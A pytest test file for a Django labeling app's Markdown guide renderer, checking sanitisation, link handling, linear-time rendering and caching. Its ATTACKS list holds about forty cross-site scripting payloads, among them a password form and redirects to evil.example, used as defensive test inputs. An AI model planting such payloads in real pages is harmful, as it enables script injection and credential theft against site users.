"""Guide Markdown renders to HTML that cannot run script, whatever the author writes."""

from __future__ import annotations

import re
import sys
from html.parser import HTMLParser

import pytest
from django.core.cache import cache

from labeling.guide import rendering
from labeling.guide.rendering import (
    ALLOWED_TAGS,
    class_names_for,
    markdown_render,
    markdown_to_safe_html,
    render_work,
)
from labeling.guide.services import guide_entry_save
from tests.helpers import api_client_for, login
from tests.taxonomy.factories import make_class

# Each of these must come out without anything that can run or load: asserted by `assert_inert`.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src="x" onerror="alert(1)">',
    "![cat](http://evil.example/track.png)",
    '![x](javascript:alert(1) "t")',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](  javascript:alert(1))",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="http://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<p onclick="alert(1)">click me</p>',
    '<div onmouseover="alert(1)">hover</div>',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<span style="position:fixed;top:0">overlay</span>',
    "<style>body{display:none}</style>",
    '<object data="http://evil.example/x.swf"></object>',
    '<embed src="http://evil.example/x.swf">',
    '<form action="http://evil.example/"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<base href="http://evil.example/">',
    '<video src="x" onerror="alert(1)"></video>',
    '<details open ontoggle="alert(1)">x</details>',
    "<template><script>alert(1)</script></template>",
    '<a href="http://ok.example/" onclick="alert(1)" style="color:red" target="_top">ok</a>',
    "<!--<script>alert(1)</script>-->",
    '<table onclick="alert(1)"><tr><td background="javascript:alert(1)">t</td></tr></table>',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    '<p id="x" class="evil" data-x="1" title="t">attrs</p>',
]

# What the rendered HTML may contain, element by element: anything else could run or load. (nh3
# keeps `title` and `lang` on any element: a tooltip and a language are harmless.)
GENERIC_ATTRIBUTES = {"title", "lang"}
SAFE_ATTRIBUTES = {
    "a": {"href", "title", "rel", "class"},
    "ol": {"start"},
    "th": {"align"},
    "td": {"align"},
}
SAFE_URL = re.compile(r"(https?:|mailto:|/classes/n\d{8}/$)", re.I)


class Elements(HTMLParser):
    """Every element and attribute of a piece of HTML, as a browser's parser would see them
    (attribute values unescaped, so `&#106;avascript:` is `javascript:`)."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_inert(html: str) -> None:
    for tag, attributes in Elements(html).found:
        assert tag in ALLOWED_TAGS, (tag, html)
        allowed = SAFE_ATTRIBUTES.get(tag, set()) | GENERIC_ATTRIBUTES
        assert set(attributes) <= allowed, (tag, attributes, html)
        href = attributes.get("href")
        if href is not None:
            assert SAFE_URL.match(href), (href, html)
            assert attributes.get("rel") == "noopener noreferrer nofollow", (href, html)


@pytest.mark.parametrize("text", ATTACKS)
def test_no_script_survives_rendering(text):
    html = markdown_render(text, class_names={})
    assert_inert(html)


def test_every_attack_at_once_in_one_document_is_inert():
    assert_inert(markdown_render("\n\n".join(ATTACKS), class_names={}))


def test_raw_html_loses_its_tags_and_a_script_its_content():
    html = markdown_render("<b>bold</b> and <script>alert(1)</script> &amp; &copy;", class_names={})
    assert html == "<p>bold and  &amp; ©</p>"
    html = markdown_render("<div>\n<em>block</em>\n</div>\n\nnext", class_names={})
    assert "<div" not in html and "<em>block</em>" in html and "<p>next</p>" in html


def test_the_check_for_inert_html_catches_what_it_must():
    for unsafe in [
        "<img src=x>",
        '<p onclick="x">',
        '<a href="javascript:alert(1)" rel="noopener noreferrer nofollow">',
        '<a href="&#106;avascript:alert(1)" rel="noopener noreferrer nofollow">',
        '<a href="https://ok.example/">',  # without the protective rel
    ]:
        with pytest.raises(AssertionError):
            assert_inert(unsafe)


def test_escaped_code_shows_the_markup_as_text():
    html = markdown_render("Never write `<script>` here.", class_names={})
    assert "<code>&lt;script&gt;</code>" in html


def test_safe_links_keep_their_url_and_gain_a_protective_rel():
    html = markdown_render(
        '[spec](https://example.org/a?b=1 "The spec") and <mailto:x@example.org>'
    )
    assert 'href="https://example.org/a?b=1"' in html
    assert 'title="The spec"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert "mailto:" in html


def test_the_usual_markdown_renders():
    text = (
        "# Ears\n\n**Norfolk**: *drop* ears.\n\n- one\n- two\n\n1. first\n2. second\n\n"
        "> quoted\n\n| trait | Norfolk |\n|:--|--:|\n| ears | drop |\n\n```\ncode\n```\n"
    )
    html = markdown_render(text, class_names={})
    for fragment in [
        "<h3>Ears</h3>",  # page headings stay the page's own: # becomes h3
        "<strong>Norfolk</strong>",
        "<em>drop</em>",
        "<ul>",
        "<ol>",
        "<blockquote>",
        "<table>",
        '<th align="left">trait</th>',
        '<td align="right">drop</td>',
        "<pre><code>code\n</code></pre>",
    ]:
        assert fragment in html, fragment


def test_class_links_resolve_to_the_class_page_with_its_name(db):
    make_class("norfolk"), make_class("norwich")
    html = markdown_render("Unlike [[n02094258]], the [[n02094114]] has drop ears.")
    assert '<a class="class-link" href="/classes/n02094258/"' in html
    assert ">Norwich terrier</a>" in html
    assert ">Norfolk terrier</a>" in html


def test_class_links_take_one_query_for_the_whole_text(db, django_assert_num_queries):
    make_class("norfolk"), make_class("norwich"), make_class("laptop")
    with django_assert_num_queries(1):
        markdown_render("[[n02094258]] [[n02094114]] [[n03642806]] [[n02094114]]")


def test_one_query_resolves_the_links_of_many_texts(db, django_assert_num_queries):
    make_class("norfolk"), make_class("norwich")
    texts = ["[[n02094258]]", "[[n02094114]] and [[n02094258]]", "no links"]
    with django_assert_num_queries(1):
        names = class_names_for(texts)
        rendered = [markdown_render(text, class_names=names) for text in texts]
    assert "Norwich terrier" in rendered[1] and "Norfolk terrier" in rendered[1]


def test_unknown_or_ancestor_wnids_and_code_stay_text(db):
    from tests.taxonomy.factories import make_ancestor

    make_class("norfolk")
    make_ancestor()  # terrier, n02092468: a synset but not a class
    html = markdown_render("[[n99999999]] [[n02092468]] `[[n02094114]]` [[Norfolk terrier]]")
    assert "class-link" not in html
    assert "[[n99999999]]" in html and "[[n02092468]]" in html
    assert "<code>[[n02094114]]</code>" in html


def test_a_class_name_is_text_even_if_it_looks_like_markup():
    html = markdown_render("[[n02094114]]", class_names={"n02094114": "<b>bold</b> *x*"})
    assert "&lt;b&gt;bold&lt;/b&gt; *x*</a>" in html


def test_empty_text_renders_empty():
    assert markdown_render("", class_names={}) == ""
    assert markdown_render("  \n ", class_names={}) == ""


# --- Linear time: chunks, bounded links, the cache --------------------------------------------

# A guide text of the usual kinds, about 1,500 characters.
SECTION = """## Ears {n}

The **Norfolk** has *dropped* ears; unlike [[n02094258]] they fold forward. See
[the breed standard][std] or [the club](https://example.org/club "club") and `code`.

- coat: wiry, grizzled
- size: small

    1. first
    2. second

> Look at the ears before the coat.

| trait | Norfolk | Norwich |
|:--|:-:|--:|
| ears | drop | prick |
| coat | wiry | wiry |

```text
# not a heading
[not a link](x)
```

Setext heading
--------------

***

[std]: https://example.org/standard "Standard"
"""


def whole(text: str, monkeypatch) -> str:
    """The text rendered in one piece, as Python-Markdown alone would."""
    with monkeypatch.context() as patch:
        patch.setattr(rendering, "CHUNK_CHARS", 10**9)
        patch.setattr(rendering, "BLOCK_LINES", 10**9)
        return markdown_to_safe_html(text, class_names=NAMES)


NAMES = {"n02094258": "Norwich terrier"}


def test_a_text_cut_into_chunks_renders_as_it_would_whole(monkeypatch):
    text = "".join(SECTION.format(n=n) for n in range(40))  # ~60,000 characters
    render_work.reset()
    chunked = markdown_to_safe_html(text, class_names=NAMES)
    assert render_work.chunks >= len(text) // rendering.CHUNK_CHARS
    assert chunked == whole(text, monkeypatch)
    assert chunked.count("<table>") == 40 and chunked.count("<h4>Ears") == 40


def test_a_link_finds_its_definition_in_another_chunk():
    text = "[the standard][std]\n\n" + "filler text. " * 2_000 + "\n\n[std]: https://example.org/s"
    html = markdown_to_safe_html(text, class_names={})
    assert (
        '<a href="https://example.org/s" rel="noopener noreferrer nofollow">the standard</a>'
        in (html)
    )


def test_a_table_longer_than_a_chunk_keeps_its_header_in_each_piece():
    rows = [f"| row {n} | {'x' * 40} |" for n in range(600)]  # ~30,000 characters
    html = markdown_to_safe_html("| name | value |\n|---|---|\n" + "\n".join(rows), class_names={})
    tables = html.count("<table>")
    assert tables >= 6
    assert html.count("<th>name</th>") == tables
    assert all(f"<td>row {n}</td>" in html for n in range(600))


def test_a_code_block_longer_than_a_chunk_stays_code():
    body = "\n".join(f"# line {n}\n" for n in range(1_000))  # blank lines inside the fence too
    html = markdown_to_safe_html(f"```\n{body}\n```\n\nafter", class_names={})
    assert "<h3>" not in html and html.count("# line") == 1_000
    assert html.count("<pre><code>") >= 2
    assert html.endswith("<p>after</p>")


def test_a_line_longer_than_a_chunk_keeps_every_word():
    words = [f"w{n}" for n in range(5_000)]
    html = markdown_to_safe_html(" ".join(words), class_names={})
    assert re.findall(r"w\d+", html) == words


def test_lists_and_quotes_nest_at_most_eight_deep_and_deeper_nesting_fails_nothing():
    html = markdown_to_safe_html("> " * 40 + "deep", class_names={})
    assert html.count("<blockquote>") == 8 and "&gt; " * 31 + "deep" in html
    html = markdown_to_safe_html("1. " * 40 + "deep", class_names={})
    assert html.count("<ol>") == 8
    # A rule of spaced dashes is a rule, however long.
    assert markdown_to_safe_html("- " * 20, class_names={}) == "<hr>"
    # Nesting by indentation, hundreds deep: rendered as text rather than failing.
    deep = "\n".join("    " * level + "- item" for level in range(400))
    assert "item" in markdown_to_safe_html(deep, class_names={})


# Each a unit repeated to the length of the text: the shapes that were quadratic or worse.
SHAPES = ["[a ", "[a](", "[a][", "![a ", "<a ", "=\n", "-\n", "*_", "`a ", "> ", "| a |\n"]


@pytest.mark.parametrize("unit", SHAPES)
def test_no_piece_handed_to_python_markdown_grows_with_the_text(unit):
    size = 8 * rendering.CHUNK_CHARS
    render_work.reset()
    markdown_to_safe_html((unit * size)[:size], class_names={})
    assert render_work.chunks >= 8
    assert render_work.largest_chunk <= rendering.CHUNK_CHARS + rendering.CARRY_CHARS


def steps_to_render(text: str) -> int:
    """Python lines run and calls made while rendering the text: a measure of work that, unlike
    time, is the same on every run and every machine. (Work inside C, such as a regular
    expression scanning a block, it does not see: the test above bounds that, by the size of
    what Python-Markdown gets.)"""
    markdown_to_safe_html(text, class_names={})  # compiles the regular expressions first
    count = 0

    def trace(frame, event, arg):
        nonlocal count
        count += 1
        return trace

    sys.settrace(trace)
    try:
        markdown_to_safe_html(text, class_names={})
    finally:
        sys.settrace(None)
    return count


@pytest.mark.parametrize("unit", ["[a ", "[a](", "=\n", SECTION.format(n=1)])
def test_rendering_four_times_the_text_takes_four_times_the_work(unit):
    # Before, each of the first three took 7 to 16 times the steps for 4 times the text: `[a `
    # ran ~n²/6 steps of a Python loop (100,000 characters: about an hour), `[a](` the same for
    # its URL, and a table test split every line of a block again for each line another
    # processor took off.
    small, large = ((unit * n)[:n] for n in (4_000, 16_000))
    assert steps_to_render(large) <= 4.4 * steps_to_render(small)


def test_link_scanning_stops_at_the_chunks_budget():
    render_work.reset()
    text = ("[a " * 1_000 + "]") * 2  # every `[` finds a `]` in its window, none closes
    markdown_to_safe_html(text, class_names={})
    # Unbounded, each `[` would scan its whole window: 2,000 times LINK_TEXT_CHARS characters.
    per_chunk = rendering.LINK_WORK_BASE + rendering.LINK_TEXT_CHARS
    budget = rendering.LINK_WORK_PER_CHAR * len(text) + per_chunk * render_work.chunks
    assert render_work.link_chars <= budget < 2_000 * rendering.LINK_TEXT_CHARS


def test_a_rendered_text_is_served_from_the_cache_the_next_time(db, annotator):
    cache.clear()
    norfolk = make_class("norfolk")
    text = ("Drop ears, [[n02094114]], **wiry** coat. " * 2_500)[:100_000]
    guide_entry_save(synset=norfolk, text=text, author=annotator)
    render_work.reset()
    page = login(annotator).get("/guide/entries/n02094114/")
    assert page.status_code == 200 and "<strong>wiry</strong>" in page.text
    assert render_work.renders == 1
    # The page again, the class page and the API: the same HTML, not rendered again.
    assert login(annotator).get("/guide/entries/n02094114/").status_code == 200
    assert login(annotator).get("/classes/n02094114/").status_code == 200
    response = api_client_for(annotator).get("/api/guide/entries/n02094114/")
    assert "<strong>wiry</strong>" in response.json()["html"]
    assert render_work.renders == 1
    # A new revision is a new text: rendered once more.
    guide_entry_save(synset=norfolk, text=text[:-1], author=annotator)
    api_client_for(annotator).get("/api/guide/entries/n02094114/")
    api_client_for(annotator).get("/api/guide/entries/n02094114/")
    assert render_work.renders == 2


def test_the_cached_html_follows_a_renamed_class(db):
    cache.clear()
    norfolk = make_class("norfolk")
    assert ">Norfolk terrier</a>" in markdown_render("[[n02094114]]")
    norfolk.display_name = "Norfolk"
    norfolk.save()
    assert ">Norfolk</a>" in markdown_render("[[n02094114]]")
